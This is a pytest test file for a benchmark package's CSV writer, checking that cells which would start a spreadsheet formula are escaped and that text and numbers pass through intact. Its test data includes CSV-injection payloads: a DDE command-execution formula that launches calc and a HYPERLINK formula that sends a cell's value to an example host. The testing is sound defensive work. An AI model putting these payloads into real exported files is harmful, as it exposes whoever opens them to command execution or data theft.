"""Tables as files: what a spreadsheet reads in them is text and numbers, and nothing that it would run."""

import csv

import pytest

from mmcggm.benchmark.summary import Comparison, Row
from mmcggm.benchmark.table import to_csv
from mmcggm.utils.csv_files import write_csv

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?"&A1)',
    '+1+cmd',
    '-2+3+cmd',
    '@SUM(1,2)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '-',
    '+',
]
PLAIN = [
    'BraTS-GLI-00003-001',
    'joint',
    '',
    ' ',
    'a=b',
    "'quoted",
    'é',
    '-1',
    '+2.5',
    '-1e-3',
    '-inf',
    '-0.1 -0.2',
]


def read(path) -> list[list[str]]:
    with path.open(encoding='utf-8', newline='') as file:
        return list(csv.reader(file))


@pytest.mark.parametrize('text', FORMULAS)
def test_formulas_are_text(tmp_path, text):
    write_csv(tmp_path / 'a.csv', [{'case': text, text: 1.0}])
    escaped = "'" + text.replace('\r', ' ')
    assert read(tmp_path / 'a.csv') == [['case', escaped], [escaped, '1.0']]


@pytest.mark.parametrize('cell', [*PLAIN, -1, -0.5, float('-inf'), None, True])
def test_text_and_numbers_stay(tmp_path, cell):
    write_csv(tmp_path / 'a.csv', [dict(case='x', value=cell)])
    assert read(tmp_path / 'a.csv')[1][1] == ('' if cell is None else str(cell))


def test_the_table_of_a_benchmark(tmp_path):
    against = {'joint': Comparison(-0.1, 0.5), '=2+2': Comparison(-0.2)}
    row = Row('=1+1', '@method', 'Corr', (0, 1), (-0.5, -0.25), -0.375, 0.1, against)
    (tmp_path / 'table.csv').write_text(to_csv([row]), encoding='utf-8')
    cells = dict(zip(*read(tmp_path / 'table.csv'), strict=True))
    assert (cells['setting'], cells['method']) == ("'=1+1", "'@method")
    assert (cells['values'], cells['mean'], cells['difference']) == ('-0.5 -0.25', '-0.375', '-0.1')
    assert cells['difference to =2+2'] == '-0.2'


def test_no_cell_begins_another_line(tmp_path):
    write_csv(tmp_path / 'a.csv', [dict(case='x\r=1+1', value='y\n=1+1')])
    assert read(tmp_path / 'a.csv')[1:] == [['x =1+1', 'y\n=1+1']]


def test_rows_may_order_their_cells_as_they_like(tmp_path):
    write_csv(tmp_path / 'a.csv', [dict(a=1, b=2), dict(b=4, a=3)])
    assert read(tmp_path / 'a.csv') == [['a', 'b'], ['1', '2'], ['3', '4']]
